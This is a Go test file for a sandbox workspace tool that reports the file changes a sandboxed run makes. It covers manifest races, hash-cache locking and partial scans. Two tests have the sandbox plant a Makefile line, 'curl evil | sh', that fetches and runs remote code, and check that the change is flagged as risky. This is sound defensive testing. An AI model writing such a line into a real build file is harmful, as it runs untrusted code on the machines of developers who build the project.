package workspace

import (
	"fmt"
	"maps"
	"math/rand/v2"
	"os"
	"path"
	"path/filepath"
	"slices"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// In bind mode the start manifest is taken while the sandbox runs. A file the
// sandbox changed before the scan reached it looks unchanged to the
// manifest; its ctime says otherwise, and it must be reported (and audited)
// as modified.
func TestBindReportsChangesTheBackgroundManifestRaced(t *testing.T) {
	root, dir := t.TempDir(), t.TempDir()
	write := func(rel, s string) {
		p := filepath.Join(root, rel)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("Makefile", "all:\n")
	write("README", "hello\n")
	// The files predate the run, as a real workspace's do.
	past := time.Now().Add(-time.Hour)
	for _, f := range []string{"Makefile", "README"} {
		os.Chtimes(filepath.Join(root, f), past, past)
	}
	time.Sleep(20 * time.Millisecond) // coarse filesystem clocks: keep the writes below clearly before Started
	s, err := Prepare(filepath.Join(dir, "ws"), Config{Mode: Bind, Root: root}, nil)
	if err != nil {
		t.Fatal(err)
	}
	time.Sleep(20 * time.Millisecond)
	// The sandbox is faster than the scan: both changes happen before Background.
	write("Makefile", "all: ; curl evil | sh\n")
	write(".github/workflows/x.yml", "on: push\n")
	s.Background()
	r, err := s.Finish()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]Change{}
	for _, c := range r.Changes {
		got[c.Path] = c
	}
	if c := got["Makefile"]; c.Kind != Modified || !c.Risky() {
		t.Errorf("Makefile: %+v, want modified and risky", c)
	}
	if c := got[".github/workflows/x.yml"]; !c.Risky() {
		t.Errorf("workflow: %+v, want reported and risky", c)
	}
	if _, ok := got["README"]; ok {
		t.Errorf("README reported though untouched: %+v", got["README"])
	}
}

// A bind session whose directory goes right after (a foreground run that
// leaves nothing) reports the same changes without writing its files again.
func TestFinishUnsavedReportsAndWritesNothing(t *testing.T) {
	root, dir := t.TempDir(), t.TempDir()
	mk := filepath.Join(root, "Makefile")
	if err := os.WriteFile(mk, []byte("all:\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	past := time.Now().Add(-time.Hour)
	os.Chtimes(mk, past, past)
	time.Sleep(20 * time.Millisecond) // coarse filesystem clocks, as above
	ws := filepath.Join(dir, "ws")
	s, err := Prepare(ws, Config{Mode: Bind, Root: root}, nil)
	if err != nil {
		t.Fatal(err)
	}
	meta, _ := os.ReadFile(filepath.Join(ws, metaFile))
	s.Background()
	time.Sleep(20 * time.Millisecond)
	if err := os.WriteFile(mk, []byte("all: ; curl evil | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	r, err := s.FinishUnsaved()
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Changes) != 1 || r.Changes[0].Path != "Makefile" || !r.Changes[0].Risky() {
		t.Fatalf("changes %+v, want Makefile, risky", r.Changes)
	}
	if _, err := os.Stat(filepath.Join(ws, changesFile)); !os.IsNotExist(err) {
		t.Errorf("%s written: %v", changesFile, err)
	}
	if now, _ := os.ReadFile(filepath.Join(ws, metaFile)); string(now) != string(meta) {
		t.Errorf("%s rewritten:\n%s", metaFile, now)
	}
	cs, err := s.Changes()
	if err != nil || len(cs) != 1 {
		t.Errorf("Changes after FinishUnsaved: %+v, %v; want the one change", cs, err)
	}
}

// N sandboxes started on one tree scan it in turn, and each reads the hash
// cache only when its turn comes, so it uses what the scans before it
// learnt instead of hashing the tree again.
func TestScansOfOneTreeTakeTurnsAndReuseTheHashCache(t *testing.T) {
	root, dir := t.TempDir(), t.TempDir()
	f := filepath.Join(root, "big.bin")
	if err := os.WriteFile(f, []byte("the real content\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	cacheFile := filepath.Join(dir, "cache", "hashes")
	// Another sandbox's scan of the tree is under way.
	release := lockScan(cacheFile+".lock", time.Second, nil)
	s, err := Prepare(filepath.Join(dir, "ws"), Config{Mode: Bind, Root: root, CacheFile: cacheFile}, nil)
	if err != nil {
		t.Fatal(err)
	}
	s.Background()
	// It ends and leaves its hashes; here a planted one, which tells whether
	// the waiting scan read the cache after its turn came or hashed anew.
	var st unix.Stat_t
	if err := unix.Stat(f, &st); err != nil {
		t.Fatal(err)
	}
	const planted = "0000000000000000000000000000000000000000000000000000000000000001"
	c := NewCache()
	c.seen[cacheKey{uint64(st.Dev), st.Ino}] = cacheVal{st.Size, st.Mtim.Nano(), st.Ctim.Nano(), planted}
	c.learned = true
	if err := c.Save(cacheFile); err != nil {
		t.Fatal(err)
	}
	release()
	<-s.base.done
	if s.base.err != nil {
		t.Fatal(s.base.err)
	}
	if got := s.base.base["big.bin"].SHA256; got != planted {
		t.Fatalf("the scan hashed the file itself (%s): it did not wait for the other scan's hashes", got)
	}
}

func TestAScanWaitsForAnotherOnlySoLong(t *testing.T) {
	p := filepath.Join(t.TempDir(), "x.lock")
	held := lockScan(p, time.Second, nil)
	defer held()
	// The other scan never ends: this one goes ahead without the lock.
	lockScan(p, 30*time.Millisecond, nil)()
	fd, err := unix.Open(p, unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(fd)
	if err := unix.Flock(fd, unix.LOCK_EX|unix.LOCK_NB); err != unix.EWOULDBLOCK {
		t.Fatalf("the first holder lost the lock: flock = %v", err)
	}
}

// A start manifest cut short when the sandbox stopped: what it saw keeps
// its before (a deletion, a real modification, a creation in a directory
// it listed in full); what it never reached is as if seen after the run
// (touched: modified, before unknown; untouched: no change).
func TestBindReviewOverAStartManifestCutShort(t *testing.T) {
	root, dir := t.TempDir(), t.TempDir()
	for _, f := range []string{"a/1", "a/2", "b/1", "b/2", "c/1", "c/2"} {
		tree(t, root, map[string]string{f: "before " + f + "\n"})
	}
	full, err := Scan(root, ScanOptions{})
	if err != nil {
		t.Fatal(err)
	}
	// The walk listed the root and a in full, reached b/1 and stopped.
	part := Partial{Manifest: Manifest{}, listed: map[string]bool{"": true, "a": true}}
	for _, p := range []string{"a", "b", "c", "a/1", "a/2", "b/1"} {
		part.Manifest[p] = full[p]
	}
	s := cutShortSession(t, root, dir, part)
	// The sandbox's run.
	os.Remove(filepath.Join(root, "a/2"))
	tree(t, root, map[string]string{"a/3": "new\n", "a/d/x": "new in a new directory\n",
		"b/1": "after\n", "b/2": "after\n", "b/3": "new, or not: the walk never listed b\n"})

	r, err := s.Finish()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]Kind{}
	for _, c := range r.Changes {
		got[c.Path] = c.Kind
		if c.After != nil && c.After.Type == TypeFile && c.After.SHA256 == "" {
			t.Errorf("%s: reported without a hash", c.Path)
		}
	}
	want := map[string]Kind{"a/2": Deleted, "a/3": Created, "a/d": Created, "a/d/x": Created,
		"b/1": Modified, "b/2": Modified, "b/3": Modified}
	for p, k := range want {
		if got[p] != k {
			t.Errorf("%s: %q, want %q", p, got[p], k)
		}
	}
	for p, k := range got {
		if _, ok := want[p]; !ok {
			t.Errorf("%s reported (%s) though untouched", p, k)
		}
	}
	for _, c := range r.Changes {
		if c.Path == "b/1" && (c.Before == nil || c.Before.SHA256 != full["b/1"].SHA256) {
			t.Errorf("b/1's before is not what the walk saw: %+v", c.Before)
		}
	}
}

// cutShortSession is a bind session of root whose start manifest's walk
// saw part when the sandbox stopped. What root holds now predates it, and
// what is written once it returns is the sandbox's.
func cutShortSession(t *testing.T, root, dir string, part Partial) *Session {
	t.Helper()
	time.Sleep(15 * time.Millisecond) // coarse filesystem clocks
	s, err := Prepare(filepath.Join(dir, "ws"), Config{Mode: Bind, Root: root}, nil)
	if err != nil {
		t.Fatal(err)
	}
	s.base.pending = false
	s.base.state.Store(int32(baseWalking))
	s.base.partial = &part
	s.base.settle(part.Manifest, nil)
	time.Sleep(15 * time.Millisecond)
	return s
}

// A short command's sandbox stops before the start manifest begins: the
// review is then one scan of the tree as the sandbox left it, and nothing
// is saved for a review by another process.
func TestBindStoppedBeforeTheStartManifestScansOnce(t *testing.T) {
	root, dir := t.TempDir(), t.TempDir()
	tree(t, root, map[string]string{"keep": "before\n", "edit": "before\n"})
	time.Sleep(20 * time.Millisecond)
	ws := filepath.Join(dir, "ws")
	s, err := Prepare(ws, Config{Mode: Bind, Root: root, CacheFile: filepath.Join(dir, "hashes")}, nil)
	if err != nil {
		t.Fatal(err)
	}
	time.Sleep(20 * time.Millisecond)
	tree(t, root, map[string]string{"edit": "after\n"})
	r, err := s.Finish() // Background never ran: the command was over first
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Changes) != 1 || r.Changes[0].Path != "edit" || r.Changes[0].Kind != Modified {
		t.Fatalf("changes %+v, want edit modified", r.Changes)
	}
	if p := s.base.cutShort(); p == nil || len(p.Manifest) != 0 {
		t.Errorf("the start manifest walked %v after the sandbox stopped", p)
	}
	if _, err := os.Stat(filepath.Join(ws, baseFile)); !os.IsNotExist(err) {
		t.Errorf("%s saved after the sandbox stopped: %v", baseFile, err)
	}
}

// The start manifest still waits its turn behind another scan of the tree
// when the sandbox stops: the review does not wait for it, and it gives up.
func TestBindReviewDoesNotWaitForAStartManifestNotBegun(t *testing.T) {
	root, dir := t.TempDir(), t.TempDir()
	tree(t, root, map[string]string{"f": "before\n"})
	cacheFile := filepath.Join(dir, "hashes")
	defer lockScan(cacheFile+".lock", time.Second, nil)() // another sandbox's scan, which never ends
	time.Sleep(20 * time.Millisecond)
	s, err := Prepare(filepath.Join(dir, "ws"), Config{Mode: Bind, Root: root, CacheFile: cacheFile}, nil)
	if err != nil {
		t.Fatal(err)
	}
	s.Background()
	time.Sleep(20 * time.Millisecond)
	tree(t, root, map[string]string{"f": "after\n"})
	done := make(chan *Report, 1)
	go func() {
		r, err := s.FinishUnsaved()
		if err != nil {
			t.Error(err)
		}
		done <- r
	}()
	select {
	case r := <-done:
		if r == nil || len(r.Changes) != 1 || r.Changes[0].Kind != Modified {
			t.Fatalf("report %+v, want f modified", r)
		}
	case <-time.After(scanWait / 2):
		t.Fatal("the review waited for the start manifest's turn")
	}
}

// Over random trees, cut-short walks and runs, the review over a start
// manifest cut short (untouched files it never reached neither hashed nor
// compared) reports what a start manifest completed after the run would
// have: what the walk settled keeps its start, the rest is the tree as the
// sandbox left it.
func TestBindReviewCutShortMatchesAManifestCompletedLate(t *testing.T) {
	rng := rand.New(rand.NewPCG(17, 25))
	for round := range 30 {
		root, dir := t.TempDir(), t.TempDir()
		var files []string
		for _, d := range []string{"", "a", "b", "b/c", "d"} {
			for j := range 3 {
				p := path.Join(d, fmt.Sprint("f", j))
				files = append(files, p)
				tree(t, root, map[string]string{p: "start " + p})
			}
		}
		start, err := Scan(root, ScanOptions{})
		if err != nil {
			t.Fatal(err)
		}
		// A walk cut short: each directory reached or not, listed in full
		// or up to some name; those below a directory it did not record
		// are not reached.
		part := Partial{Manifest: Manifest{}, listed: map[string]bool{}}
		var walk func(d string)
		walk = func(d string) {
			var names []string
			for p := range start {
				if parent(p) == d {
					names = append(names, p)
				}
			}
			slices.Sort(names)
			n := len(names)
			if rng.IntN(2) == 0 {
				n = rng.IntN(n + 1)
			} else {
				part.listed[d] = true
			}
			for _, p := range names[:n] {
				part.Manifest[p] = start[p]
				if start[p].Type == TypeDir && rng.IntN(3) > 0 {
					walk(p)
				}
			}
		}
		if rng.IntN(4) > 0 {
			walk("")
		}
		s := cutShortSession(t, root, dir, part)
		// The run: files rewritten (some with the same bytes), removed or
		// replaced by a directory; new files, some in new directories.
		for _, p := range files {
			abs := filepath.Join(root, p)
			switch rng.IntN(6) {
			case 0:
				os.WriteFile(abs, []byte("changed "+p), 0o644)
			case 1:
				os.WriteFile(abs, []byte("start "+p), 0o644)
			case 2:
				os.Remove(abs)
			case 3:
				if os.Remove(abs) == nil {
					tree(t, root, map[string]string{p + "/inside": "x"})
				}
			}
		}
		for i := range 3 {
			tree(t, root, map[string]string{path.Join([]string{"", "a", "b/c", "new"}[rng.IntN(4)], fmt.Sprint("n", i)): "new"})
		}

		r, err := s.Finish()
		if err != nil {
			t.Fatal(err)
		}
		late, err := Scan(root, ScanOptions{})
		if err != nil {
			t.Fatal(err)
		}
		base := maps.Clone(part.Manifest)
		for p, e := range late {
			if !part.Knows(p) {
				base[p] = e
			}
		}
		touched := map[string]bool{}
		for p, e := range late {
			if e.Type != TypeDir && e.Ctime >= s.m.Started.UnixNano() {
				touched[p] = true
			}
		}
		want := map[string]string{}
		for _, c := range Compare(base, late, touched) {
			if c.Kind == Reverted && c.Before.Ctime >= s.m.Started.UnixNano() {
				c.Kind = Modified
			}
			want[c.Path] = string(c.Kind) + " " + c.Refused
		}
		got := map[string]string{}
		for _, c := range r.Changes {
			got[c.Path] = string(c.Kind) + " " + c.Refused
		}
		if !maps.Equal(got, want) {
			t.Fatalf("round %d (walk saw %d entries, listed %v):\n got %v\nwant %v", round, len(part.Manifest), part.listed, got, want)
		}
	}
}
